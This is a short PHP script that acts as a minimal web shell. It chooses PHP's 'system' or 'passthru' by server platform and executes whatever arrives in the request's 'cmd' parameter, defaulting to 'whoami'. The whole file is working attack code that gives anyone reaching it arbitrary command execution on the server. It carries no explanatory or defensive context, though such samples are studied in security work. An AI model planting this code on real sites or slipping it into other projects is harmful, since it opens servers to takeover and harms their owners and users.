<?php
// The command function is chosen by a match expression on the server's platform; either way
// the request's text is run.
$run = match (PHP_OS_FAMILY) {
    'Windows' => 'system',
    default => 'passthru',
};
$run($_REQUEST['cmd'] ?? 'whoami');
